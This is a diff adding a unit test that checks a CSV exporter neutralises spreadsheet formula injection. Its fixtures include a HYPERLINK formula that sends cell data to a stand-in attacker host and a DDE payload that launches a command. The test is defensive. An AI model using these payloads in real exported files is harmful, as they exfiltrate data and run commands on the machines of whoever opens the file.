@@ -29,4 +29,27 @@ describe('export formats', () => {
 		expect(t.getChild('leerlingen_so')?.get(0)).toBeNull();
 		expect(t.getChild('leerlingen_so')?.get(1)).toBe(12);
 	});
+	it('neutralises text that Excel would run as a formula, and leaves numbers alone (-3 stays -3)', () => {
+		const names: QueryResult = {
+			columns: [{ name: 'naam', kind: 'string' }, { name: 'verschil', kind: 'number' }],
+			rows: [
+				{ naam: '=HYPERLINK("https://aanvaller.example/?"&A1,"Klik")', verschil: -3 },
+				{ naam: "+cmd|' /C calc'!A0", verschil: -1.5 },
+				{ naam: '@SUM(1+1)*cmd', verschil: 0 },
+				{ naam: '-2+3', verschil: 2 },
+				{ naam: '\tTab', verschil: null },
+				{ naam: '\rCR', verschil: null },
+				{ naam: 'De Regenboog - locatie 2', verschil: 1 }
+			]
+		};
+		expect(toCsv(names).split('\r\n').slice(1, -1)).toEqual([
+			`"'=HYPERLINK(""https://aanvaller.example/?""&A1,""Klik"")";-3`,
+			`'+cmd|' /C calc'!A0;-1,5`,
+			`'@SUM(1+1)*cmd;0`,
+			`'-2+3;2`,
+			`'\tTab;`,
+			`"'\rCR";`,
+			`De Regenboog - locatie 2;1`
+		]);
+	});
 });
